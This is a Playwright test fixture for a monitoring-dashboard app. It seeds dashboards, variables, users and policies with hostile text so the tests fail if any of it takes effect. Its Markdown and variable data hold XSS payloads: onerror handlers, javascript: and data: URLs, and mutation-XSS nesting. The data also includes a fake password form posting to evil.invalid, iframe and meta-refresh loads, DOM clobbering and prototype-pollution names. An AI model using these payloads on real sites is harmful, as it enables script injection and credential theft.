import type { APIRequestContext, Page } from '@playwright/test';
import { check, createDashboard, DASHBOARDS, dashboardOf, saveDashboard, type TestDocument } from './dashboards';
import { ALL, Intrusions, MARKUP, METRIC, REFUSED, TEXTS, type HostileSource } from './hostile';
import { laidOut } from './room';
import { datasourceOf, expect, PROJECT, test as base } from './test';
import { laterWindow } from './windows';

export const P = `/p/${PROJECT}`;
const API = `/api/v1/projects/${PROJECT}`;
const SOURCE = 'hostile-source';

/** Fails a test in whose pages a hostile text achieved something. */
export const test = base.extend<{ intrusions: Intrusions }>({
  intrusions: [
    async ({ context, server }, provide) => {
      const intrusions = new Intrusions(server.url);
      await intrusions.watch(context);
      await provide(intrusions);
      expect(intrusions.found(), 'what hostile texts achieved').toEqual([]);
    },
    { auto: true },
  ],
});

export { expect };

/** What draws the answer of a query; the last one is no plugin at all. */
export const CHARTS = [
  'TimeSeriesChart',
  'StatChart',
  'GaugeChart',
  'BarChart',
  'PieChart',
  'StatusHistoryChart',
  'HeatMapChart',
  'HistogramChart',
  'Table',
  'TimeSeriesTable',
  'NoSuchChart',
] as const;

const LINKS = [
  { name: MARKUP, url: 'https://evil.invalid/', tooltip: ALL, renderVariables: true, targetBlank: true },
  { name: TEXTS.link, url: '$script', tooltip: MARKUP, renderVariables: true, targetBlank: true },
];

/** No address may hold an angle, and no two users have one. */
function emailOf(name: string): string {
  return `{{'/*${name}${'w'.repeat(100)}}}@evil.invalid`;
}

function queryPanel(kind: string, title: string, query = METRIC): unknown {
  const plugin = {
    kind: 'PrometheusTimeSeriesQuery',
    spec: {
      query,
      seriesNameFormat: '{{note}} {{__proto__}} {{constructor}} {{toString}} {{terminal}} $markup',
      datasource: { kind: 'PrometheusDatasource', name: SOURCE },
    },
  };
  const format = { unit: MARKUP };
  const mapping = { kind: 'Value', spec: { value: '1', result: { value: MARKUP, color: TEXTS.vector } } };
  const spec: Readonly<Record<string, unknown>> = {
    TimeSeriesChart: {
      legend: { position: 'bottom', mode: 'table', values: ['last'] },
      yAxis: { label: MARKUP, format },
      thresholds: { steps: [{ value: 2, name: MARKUP, color: TEXTS.vector }] },
    },
    GaugeChart: { calculation: 'last' },
    BarChart: { calculation: 'last' },
    PieChart: { calculation: 'last', radius: 50 },
    StatChart: { calculation: 'last', metricLabel: 'note', format, mappings: [mapping] },
    StatusHistoryChart: { legend: { position: 'bottom', mode: 'list' }, mappings: [mapping] },
    Table: { columnSettings: [{ name: 'note', header: MARKUP, headerDescription: ALL, cellDescription: ALL }] },
  };
  return {
    kind: 'Panel',
    spec: {
      display: { name: title, description: ALL },
      plugin: { kind, spec: spec[kind] ?? {} },
      queries: [{ kind: 'TimeSeriesQuery', spec: { plugin } }],
      links: LINKS,
    },
  };
}

/** What the server does not refuse at once: links with schemes are, so they come out of a variable. */
const MARKDOWN = [
  '# <img src=x onerror=hostile=1> heading',
  '[elsewhere](//evil.invalid/) [script]($script) <$script> [data]($data)',
  '![picture](https://evil.invalid/a.png) <img src="//evil.invalid/b.png"> ![]($data)',
  '<div style="position:fixed;inset:0;z-index:9999;background:url(//evil.invalid/c.png)">over everything</div>',
  '<style>*{background:url(//evil.invalid/d.png)}</style><meta http-equiv="refresh" content="0;url=//evil.invalid/">',
  '<form action="//evil.invalid/"><input type="password" name="password"><button>Sign in</button></form>',
  '<iframe src="//evil.invalid/"></iframe><object data="//evil.invalid/"></object><video src="//evil.invalid/v"></video><audio src="//evil.invalid/a"></audio>',
  '<a id="hostile" name="location" href="x:x">clobbers</a> $markup $all',
  '- [x] done',
  '',
  `| a | b |\n|---|---|\n| ${'W'.repeat(400)} | b |`,
  '<svg><style><img src=x onerror=hostile=1></style></svg><math><mtext><table><mglyph><style><img src=x onerror=hostile=1>',
].join('\n\n');

function markdownPanel(title: string, text: string): unknown {
  return {
    kind: 'Panel',
    spec: { display: { name: title, description: ALL }, plugin: { kind: 'Markdown', spec: { text } }, links: LINKS },
  };
}

const VARIABLES = [
  { kind: 'TextVariable', spec: { name: 'markup', value: MARKUP, display: { name: MARKUP, description: ALL } } },
  { kind: 'TextVariable', spec: { name: 'all', value: ALL, display: { name: TEXTS.long } } },
  { kind: 'TextVariable', spec: { name: 'script', value: 'javascript:hostile=1', display: { name: TEXTS.template } } },
  { kind: 'TextVariable', spec: { name: 'data', value: 'data:text/html,<script>hostile=1</script>' } },
  { kind: 'TextVariable', spec: { name: 'constructor', value: TEXTS.prototype } },
  {
    kind: 'ListVariable',
    spec: {
      name: 'listed',
      display: { name: TEXTS.vector },
      allowMultiple: true,
      defaultValue: [MARKUP, TEXTS.long],
      plugin: {
        kind: 'StaticListVariable',
        spec: { values: Object.values(TEXTS).map((value) => ({ value, label: value })) },
      },
    },
  },
  {
    kind: 'ListVariable',
    spec: {
      name: 'measured',
      plugin: {
        kind: 'PrometheusLabelValuesVariable',
        spec: { labelName: 'note', datasource: { kind: 'PrometheusDatasource', name: SOURCE } },
      },
    },
  },
];

/** A dashboard in which every text is hostile. */
function hostileDashboard(name: string, title: string, tags: readonly string[] = []): TestDocument {
  const panels: Record<string, unknown> = Object.fromEntries([
    ...CHARTS.map((kind) => [`panel-${kind}`, queryPanel(kind, `${kind} ${MARKUP}`)]),
    ['toString', queryPanel('TimeSeriesChart', TEXTS.long.repeat(4), REFUSED)],
    ['hasOwnProperty', markdownPanel(TEXTS.template, MARKDOWN)],
  ]);
  const keys = Object.keys(panels);
  const empty = dashboardOf(name, title, [], VARIABLES);
  const items = keys.map((key, index) => ({
    x: (index % 4) * 6,
    y: Math.floor(index / 4) * 8,
    width: 6,
    height: 8,
    content: { $ref: `#/spec/panels/${key}` },
  }));
  return {
    ...empty,
    metadata: { ...empty.metadata, ...{ tags } },
    spec: {
      ...empty.spec,
      display: { ...empty.spec.display, ...{ description: ALL.slice(0, 200) } },
      panels,
      layouts: [{ kind: 'Grid', spec: { ...{ display: { title: MARKUP, collapse: { open: true } } }, items } }],
      ...{ links: LINKS },
    },
  } as TestDocument; // what the server takes; panels of other kinds than the type knows
}

export async function post<T = unknown>(api: APIRequestContext, path: string, data: unknown): Promise<T> {
  const answer = await api.post(path, { data });
  expect(answer.ok(), await answer.text()).toBe(true);
  return (await answer.json().catch(() => undefined)) as T; // as the contract says at the caller
}

export type Shown = { run: string; policy: string };

/** Puts hostile texts into everything that has a name. */
export async function furnish(api: APIRequestContext, source: HostileSource): Promise<Shown> {
  const datasource = datasourceOf(SOURCE, source.url);
  await post(api, `${API}/datasources`, {
    ...datasource,
    spec: { ...datasource.spec, display: { name: MARKUP, description: ALL } },
  });
  const texts = Object.entries(TEXTS);
  await createDashboard(api, hostileDashboard('hostile', TEXTS.vector));
  await saveDashboard(api, hostileDashboard('hostile', MARKUP, Object.values(TEXTS)), ALL.slice(0, 200));
  for (const [name, text] of texts) {
    const document = dashboardOf(`hostile-${name}`, text.padEnd(1), [
      { title: text, query: METRIC, datasource: SOURCE },
    ]);
    await createDashboard(api, document);
    await post(api, '/api/v1/projects', {
      kind: 'Project',
      metadata: { name: `project-${name}` },
      spec: { display: { name: text, description: ALL.slice(0, 200) } },
    });
    await post(api, '/api/v1/me/tokens', { name: text });
    await post(api, '/api/v1/users', { login: `user.${name}`, display_name: text, email: emailOf(name) });
    await api.put(`${API}/members/user.${name}`, { data: { role: 'readonly' } });
  }
  await createDashboard(api, dashboardOf('hostile-gone', MARKUP, [{ title: MARKUP, query: METRIC }]));
  await api.delete(`${DASHBOARDS}/hostile-gone`);
  const policies: string[] = [];
  for (const [name, text] of texts) {
    const { id } = await post<{ id: string }>(api, `${API}/policies`, {
      name: text,
      description: ALL,
      environment: 'builtin',
      assets: { kind: 'list', names: ['hostile', `hostile-${name}`] },
      ...laterWindow(),
      notify: { owners: false, channels: [] },
    });
    policies.push(id);
  }
  await post(api, `${API}/policies/${policies[0] ?? ''}/run`, {});
  const pages = ['dashboards', 'runs', 'health'];
  const views = texts.flatMap(([, name]) =>
    pages.map((page) => ({ name, page, project: PROJECT, query: 'q=%3Csvg%3E' })),
  );
  const kept = await api.put('/api/v1/preferences', { data: { saved_views: views } });
  expect(kept.ok(), await kept.text()).toBe(true);
  const run = await check(api, ['hostile', ...texts.map(([name]) => `hostile-${name}`)]);

  return { run, policy: policies[0] ?? '' };
}

export async function settled(page: Page): Promise<void> {
  await expect(page.getByRole('heading').first()).toBeVisible();
  await expect(page.getByRole('status', { name: 'Loading' })).toHaveCount(0);
  await expect(page.getByRole('status', { name: 'Reading' })).toHaveCount(0);
}

export async function fits(page: Page, what: string): Promise<void> {
  await laidOut(page);
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  expect(overflow, `${what}: wider than the window`).toBeLessThanOrEqual(0);
}
